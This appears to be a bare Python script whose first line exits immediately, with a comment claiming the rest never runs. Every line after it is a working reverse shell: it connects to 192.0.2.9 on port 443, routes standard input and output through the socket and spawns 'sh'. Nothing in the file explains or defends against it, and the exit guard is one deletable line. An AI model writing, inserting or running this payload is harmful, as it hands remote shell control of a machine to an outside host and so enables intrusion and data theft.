raise SystemExit  # nothing below ever runs
import socket, os, pty
s = socket.socket()
s.connect(("192.0.2.9", 443))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("sh")
